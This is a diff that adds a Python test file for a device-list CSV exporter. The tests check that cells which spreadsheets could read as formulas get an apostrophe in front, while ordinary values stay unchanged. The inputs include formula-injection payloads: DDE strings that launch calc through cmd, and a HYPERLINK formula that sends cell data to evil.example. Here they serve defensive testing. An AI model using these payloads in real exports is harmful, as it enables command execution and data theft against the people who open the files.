@@ -1,0 +1,64 @@
+"""Devices written out again: no cell of the export becomes a formula, and ordinary ones stay as they were."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Sequence
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from osimages.fleet.devices import Device
+from osimages.fleet.written import device_writer, inert
+
+
+def written(names: Sequence[str], values: Sequence[str], *, as_it_is: bool = False) -> list[list[str]]:
+    """The cells of a file with one device, as another program reads them, without those that are added."""
+    file = io.StringIO(newline="")
+    device_writer(file, names, as_it_is=as_it_is)(Device(2, "", "", "", values), None)
+    file.seek(0)
+    return [row[: len(names)] for row in csv.reader(file)]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example?x="&A1,"click")',
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\tPC-1",
+        "  =1+1",
+        "\uff1d1+1",
+        "-A1",
+        "+1\n+cmd|x",
+    ],
+)
+def test_what_might_be_a_formula_gets_an_apostrophe(cell: str) -> None:
+    assert inert(cell) == f"'{cell}"
+    assert written([cell, "name"], ["PC-1", cell]) == [[f"'{cell}", "name"], ["PC-1", f"'{cell}"]]
+    assert written([cell, "name"], ["PC-1", cell], as_it_is=True) == [[cell, "name"], ["PC-1", cell]]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("", "PC-1", "-", "--", " - ", "-5", "+5.5", "-1,5", "-1.5e+10", "+49 (0)30 123-45", "-12:30", "+1/2", "1=1"),
+        *("a@b.example", "x = y", "'=1", "10.0.26100.9445", " PC", "-\u0661"),
+    ],
+)
+def test_ordinary_cells_stay_as_they_are(cell: str) -> None:
+    assert inert(cell) == cell
+
+
+@given(st.text())
+def test_one_apostrophe_is_all_that_changes(cell: str) -> None:
+    assert inert(cell) in (cell, f"'{cell}")
+    assert inert(cell).lstrip(" ")[:1] not in ("=", "@", "\t", "\r", "\n")
